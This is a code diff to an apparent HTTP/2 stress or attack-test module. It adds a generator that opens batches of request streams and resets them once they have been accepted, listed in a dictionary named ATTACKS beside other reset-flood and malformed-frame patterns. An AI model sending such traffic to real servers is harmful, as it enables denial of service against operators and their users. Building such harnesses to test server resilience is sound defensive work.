@@ -42,6 +42,20 @@ def _per_stream(frames, method):
     return pieces
 
 
+def _reset_once_accepted(authority):
+    """Each piece opens streams and resets those of the piece before: by then they have been accepted."""
+    longer, shorter = _blocks(authority, "GET")
+    block, before = longer, b""
+    for start in itertools.count(1, 2 * PIECE):
+        streams = range(start, start + 2 * PIECE, 2)
+        opened = []
+        for stream in streams:
+            opened.append(http2.bare(1, 5, stream, block))
+            block = shorter
+        yield before + b"".join(opened)
+        before = b"".join(http2.bare(RESET, 0, stream, b"\0\0\0\x08") for stream in streams)
+
+
 def _same(opening, unit):
     """The same frame over and over."""
     def pieces(authority):
@@ -68,6 +82,7 @@ LITERAL = b"\x00\x01a\x01b"  # `a: b`, not kept in the table
 ATTACKS = {
     "streams that are reset at once": _per_stream(
         lambda stream, block: http2.bare(1, 5, stream, block) + http2.bare(RESET, 0, stream, b"\0\0\0\x08"), "GET"),
+    "requests that are reset once they were accepted": _reset_once_accepted,
     "streams that the server must reset for a window of nothing": _per_stream(
         lambda stream, block: http2.bare(1, 4, stream, block) + http2.bare(WINDOW_UPDATE, 0, stream, bytes(4)), "POST"),
     "streams that the server must reset for data behind their end": _per_stream(
